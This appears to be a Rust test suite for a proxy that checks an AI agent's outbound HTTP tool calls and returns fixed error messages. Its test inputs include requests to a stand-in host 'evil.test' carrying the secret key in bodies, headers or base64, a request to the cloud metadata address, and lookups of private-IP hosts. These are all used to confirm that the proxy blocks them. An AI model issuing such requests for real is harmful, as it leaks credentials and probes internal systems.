//! The exact error texts that a model gets when a call fails, from the real front-end and a real proxy; and the one it
//! gets if several things are wrong.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::lab::{KEY, Lab, LabBuilder, Origin};
use crate::tools::front_end::call;

const TOOLS: &str = "tools = [\"api_call\", \"http_get\", \"http_post\", \"webhook\"]";

struct Stage {
    lab: Lab,
    origin: Origin,
}

/// Starts a task with two integrations and one credential; `task` is added to its table, `more` to the configuration.
async fn start(task: &str, more: &str) -> Stage {
    let builder = LabBuilder::new().await;
    let origin = builder.origin("api.test").await;
    builder.dns.set("inside.test", &["10.0.0.7"]);
    builder.dns.set("mixed.test", &["127.0.0.1", "10.0.0.7"]);
    let text = format!(
        "[integrations.api]\nallowed_domains = [\"api.test\", \"inside.test\", \"mixed.test\", \"*.gone.test\"]\nports = [{}]\n\
         [integrations.other]\nallowed_domains = [\"*.other.test\"]\n\
         [credentials.MY_KEY]\nauth_type = \"bearer\"\nvalue = \"env:KEY\"\ndomains = [\"api.test\"]\n{more}\n\
         [tasks.t]\ncredentials = [\"MY_KEY\"]\n{}\n",
        origin.port(),
        if task.contains("integrations") {
            task.to_owned()
        } else {
            format!("integrations = [\"api\", \"other\"]\n{task}")
        }
    );
    Stage { lab: builder.proxy(&text).await, origin }
}

impl Stage {
    fn at(&self, host: &str, path: &str) -> String {
        format!("https://{host}:{}{path}", self.origin.port())
    }

    async fn error_text(&self, tool: &str, input: &Value) -> String {
        let result = call(&self.lab, tool, input).await;
        result["content"].as_str().unwrap_or_else(|| panic!("{result:#}")).to_owned()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_error_has_its_documented_text() {
    let stage = start(TOOLS, "").await;
    let api = stage.at("api.test", "/");
    let blocked = |host: &str| {
        format!(
            "Error: URL blocked -- Domain {host} not in any approved integration for this task. \
             Approved: [*.gone.test, *.other.test, api.test, inside.test, mixed.test]"
        )
    };
    let dns = |host: &str| format!("Error: DNS resolution failed or blocked for {host}");
    let leak = "Error: Blocked -- Credential MY_KEY detected in outbound request. This has been logged.".to_owned();
    let unknown =
        |name: &str| format!("Error: credential '{name}' not found. Check your task's credential configuration.");
    let required = "Error: 'credential' field required for api_call".to_owned();
    let with = |url: &str, credential: Value| json!({"method": "GET", "url": url, "credential": credential});
    let rows: Vec<(&str, Value, String)> = vec![
        // Domain not in approved integrations
        ("http_get", json!({"url": "https://evil.test/x?q=1"}), blocked("evil.test")),
        ("http_post", json!({"url": "https://EVIL.test./x", "body": {}}), blocked("evil.test")),
        ("api_call", with("https://other.test/", json!("MY_KEY")), blocked("other.test")),
        ("http_get", json!({"url": "https://169.254.169.254/"}), blocked("169.254.169.254")),
        ("http_get", json!({"url": "https://bücher.test/"}), blocked("xn--bcher-kva.test")),
        // api_call invoked without credential
        ("api_call", json!({"method": "GET", "url": api}), required.clone()),
        ("api_call", with(&api, json!("")), required.clone()),
        ("api_call", with(&api, json!(null)), required.clone()),
        ("api_call", json!({}), required),
        // Named credential missing from task
        ("api_call", with(&api, json!("OTHER_KEY")), unknown("OTHER_KEY")),
        ("api_call", with(&api, json!("my_key")), unknown("my_key")),
        // LLM placed credential value in body/URL/headers
        ("http_get", json!({"url": api, "query_params": {"q": KEY}}), leak.clone()),
        ("http_get", json!({"url": api, "headers": {"X-Note": STANDARD.encode(KEY)}}), leak.clone()),
        ("http_post", json!({"url": api, "body": {"text": format!("the key is {KEY}")}}), leak),
        // Hostname unresolvable or resolves to private IP
        ("http_get", json!({"url": stage.at("x.gone.test", "/")}), dns("x.gone.test")),
        ("http_get", json!({"url": stage.at("inside.test", "/")}), dns("inside.test")),
        ("http_get", json!({"url": stage.at("mixed.test", "/")}), dns("mixed.test")),
        // Tool name not in registry
        ("tool_name", json!({}), "Error: unknown tool 'tool_name'".to_owned()),
        // webhook integration not in task
        ("webhook", json!({"url": api, "body": {}}), "Error: webhook integration not enabled for this task".to_owned()),
        // Error texts of exeat's own
        ("http_request", json!({"url": api}), "Error: tool 'http_request' not enabled for this task".to_owned()),
        ("http_get", json!({}), "Error: 'url' field required for http_get".to_owned()),
        ("http_get", json!({"url": 1}), "Error: 'url' field must be a string for http_get".to_owned()),
        ("http_post", json!({"url": api}), "Error: 'body' field required for http_post".to_owned()),
        (
            "http_post",
            json!({"url": api, "body": "x"}),
            "Error: 'body' field must be an object for http_post".to_owned(),
        ),
        ("http_get", json!([]), "Error: arguments must be a JSON object".to_owned()),
        (
            "http_get",
            json!({"url": "https://api.test/"}),
            "Error: The port is not approved for this host (port_not_allowed)".to_owned(),
        ),
        (
            "http_get",
            json!({"url": "http://api.test/"}),
            "Error: Plain HTTP is not approved for this host (scheme_not_allowed)".to_owned(),
        ),
    ];
    for (tool, input, want) in rows {
        assert_eq!(stage.error_text(tool, &input).await, want, "{tool} {input}");
    }
    assert!(stage.origin.seen().is_empty(), "{:?}", stage.origin.seen());
    // The target API's own error is returned unchanged, in tags.
    let answer = stage.error_text("http_get", &json!({"url": stage.at("api.test", "/error")})).await;
    assert_eq!(answer, "<tool_response>boom</tool_response>");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unregistered_webhook_has_its_documented_text() {
    let task = format!("integrations = [\"api\", \"webhook\"]\nwebhook_urls = [\"https://hooks.test/x\"]\n{TOOLS}");
    let stage = start(&task, "").await;
    let told = stage.error_text("webhook", &json!({"url": stage.at("api.test", "/"), "body": {}})).await;
    assert_eq!(told, "Error: webhook URL not registered for this task. Register it in your task settings.");
}

#[tokio::test(flavor = "multi_thread")]
async fn limits_have_their_documented_texts() {
    for (plan, want) in [
        ("calls_per_execution = 20", "Error: Execution limit reached (20 API calls)"),
        ("calls_per_minute = 10", "Error: Rate limit reached (10 API calls per minute)"),
    ] {
        let stage = start(&format!("{TOOLS}\nplan = \"p\""), &format!("[plans.p]\n{plan}")).await;
        let url = json!({ "url": stage.at("api.test", "/") });
        let block = |n: usize| json!({"type": "tool_use", "id": n.to_string(), "name": "http_get", "input": url});
        let blocks = Value::Array((0..if plan.ends_with("20") { 20 } else { 10 }).map(block).collect()).to_string();
        let done = tokio::task::block_in_place(|| crate::tools::front_end::tools(&stage.lab, &["batch"], &blocks));
        assert!(done.status.success() && !String::from_utf8_lossy(&done.stdout).contains("Error"), "{done:?}");
        assert_eq!(stage.error_text("http_get", &url).await, want);
        // This includes calls that would not have been sent.
        assert_eq!(stage.error_text("http_get", &json!({})).await, want);
        assert_eq!(stage.error_text("no_such_tool", &json!({})).await, want);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn timeouts_have_their_documented_text() {
    let stage =
        start("tools = [\"http_get\", \"http_request\"]\nplan = \"p\"", "[plans.p]\nrequest_timeout = \"2s\"").await;
    // Before the answer begins, and after its beginning.
    for path in ["/stall", "/stall-body"] {
        let url = stage.at("api.test", path);
        let told = stage.error_text("http_get", &json!({ "url": url })).await;
        assert_eq!(told, "Error: request timed out (2s)", "{path}");
        let told = stage.error_text("http_request", &json!({"url": url, "timeout": 1})).await;
        assert_eq!(told, "Error: request timed out (1s)", "{path}");
        // A call that requests a longer timeout than the plan's gets the plan's.
        let told = stage.error_text("http_request", &json!({"url": url, "timeout": 3})).await;
        assert_eq!(told, "Error: request timed out (2s)", "{path}");
    }
}

/// The limit applies to the decoded body, also if its length was not declared.
#[tokio::test(flavor = "multi_thread")]
async fn an_answer_is_truncated_at_the_plans_size() {
    let stage = start(&format!("{TOOLS}\nplan = \"p\""), "[plans.p]\nmax_response_bytes = 5000").await;
    for (path, kept, marker) in [
        ("/known?5000", 5000, ""),
        ("/known?5001", 5000, "... (truncated)"),
        ("/big?5000", 5000, ""),
        ("/big?600000", 5000, "... (truncated)"),
    ] {
        let told = stage.error_text("http_get", &json!({"url": stage.at("api.test", path)})).await;
        let want = format!("<tool_response>{}{marker}</tool_response>", "z".repeat(kept));
        assert!(told == want, "{path}: {} {:.50}", told.len(), told);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_default_timeout_of_a_call_is_thirty_seconds() {
    let stage = start(TOOLS, "[plans.p]\ncalls_per_minute = 10").await;
    let told = stage.lab.ask_self().await;
    assert_eq!(told["limits"]["tools"]["request_timeout_s"], 30.0, "{told:#}");
}

impl Lab {
    async fn ask_self(&self) -> Value {
        let request = http::Request::builder().uri("/v1/self").header("host", "proxy");
        let request = request.header("proxy-authorization", crate::lab::client::auth());
        self.send(request.body(crate::lab::client::empty()).unwrap()).await.problem()
    }
}

/// The order of the checks: the field, the URL, the credential, the scan, DNS, and finally the origin.
#[tokio::test(flavor = "multi_thread")]
async fn of_several_errors_the_first_is_reported() {
    let stage = start(TOOLS, "").await;
    let (evil, gone) = ("https://evil.test/".to_owned(), stage.at("x.gone.test", "/"));
    let api = |url: &str, credential: &str, note: &str| {
        let mut input = json!({"method": "POST", "url": url, "headers": {"X-Note": note}, "body": {"note": note}});
        if !credential.is_empty() {
            input["credential"] = json!(credential);
        }
        input
    };
    let rows = [
        ("no credential, forbidden host, leak", api(&evil, "", KEY), "Error: 'credential' field required for api_call"),
        (
            "no credential, leak in the URL",
            api(&format!("{evil}{KEY}"), "", "x"),
            "Error: 'credential' field required for api_call",
        ),
        ("forbidden host, unknown credential", api(&evil, "NONE", "x"), "Error: URL blocked -- Domain evil.test"),
        ("forbidden host, unknown credential, leak", api(&evil, "NONE", KEY), "Error: URL blocked -- Domain evil.test"),
        ("forbidden host, leak", api(&evil, "MY_KEY", KEY), "Error: URL blocked -- Domain evil.test"),
        (
            "forbidden host, a name that is no field",
            api(&evil, "MEIN_SCHLÜSSEL", "x"),
            "Error: URL blocked -- Domain evil.test",
        ),
        ("unknown credential, leak", api(&gone, "NONE", KEY), "Error: credential 'NONE' not found."),
        ("leak, no address", api(&stage.at("x.gone.test", "/"), "NONE", KEY), "Error: credential 'NONE' not found."),
        (
            "no address",
            json!({"url": gone, "_tool": "http_get"}),
            "Error: DNS resolution failed or blocked for x.gone.test",
        ),
    ];
    for (what, mut input, want) in rows {
        let tool = input.as_object_mut().unwrap().remove("_tool");
        let told = stage.error_text(tool.as_ref().and_then(Value::as_str).unwrap_or("api_call"), &input).await;
        assert!(told.starts_with(want), "{what}: {told}");
        assert!(!told.contains(KEY), "{what}: {told}");
    }
    assert_eq!(stage.lab.dns.queries("evil.test"), 0);
    assert!(stage.lab.dns.queries("x.gone.test") > 0);
    // If only DNS can fail, the scan comes first, and no query is sent.
    let before = stage.lab.dns.queries("y.gone.test");
    for input in [
        json!({"url": stage.at("y.gone.test", "/"), "body": {"note": KEY}}),
        json!({"url": stage.at("y.gone.test", "/"), "body": {}, "headers": {"X-Note": KEY}}),
        json!({"url": stage.at("y.gone.test", &format!("/?q={}", STANDARD.encode(KEY))), "body": {}}),
    ] {
        let told = stage.error_text("http_post", &input).await;
        let want = "Error: Blocked -- Credential MY_KEY detected in outbound request. This has been logged.";
        assert_eq!(told, want, "{input}");
    }
    assert_eq!((before, stage.lab.dns.queries("y.gone.test")), (0, 0));
    assert!(stage.origin.seen().is_empty());
}
